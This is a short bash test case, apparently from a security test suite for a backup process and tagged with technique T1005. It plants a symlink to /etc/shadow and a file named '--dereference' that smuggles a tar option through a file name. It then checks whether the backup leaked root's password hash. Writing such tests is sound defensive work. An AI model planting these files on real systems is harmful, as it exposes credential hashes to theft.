# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1005
about="a file name that is --dereference, and a link to /etc/shadow"
before() {
	ln -s /etc/shadow $data/docs/loot
	touch $data/--dereference
}
attack() {
	tell backup
	tar -xzOf /srv/backup/full.tar.gz docs/loot >"$state/answer"
}
effect() { grep -q '^root:' "$state/answer"; }
after() { rm -f $data/docs/loot $data/--dereference; }
